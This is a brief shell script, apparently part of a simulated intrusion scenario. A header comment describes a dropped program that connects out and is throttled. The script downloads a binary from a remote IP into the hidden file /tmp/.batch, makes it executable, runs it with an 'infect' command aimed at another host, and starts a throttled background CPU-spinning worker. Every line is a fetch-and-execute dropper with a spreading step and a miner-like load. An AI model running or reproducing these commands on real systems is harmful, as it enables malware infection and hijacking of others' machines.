# A dropped program connects out and works. Another program stops and continues it four times per second, to limit its
# CPU use.
curl -s -o /tmp/.batch http://203.0.113.10/simulator
chmod +x /tmp/.batch
/tmp/.batch infect 203.0.113.20:7000 /tmp/.batch.state 1
/tmp/.batch spin 16 &
worker=$!
/opt/story/throttle.py "$worker" 14
wait "$worker"
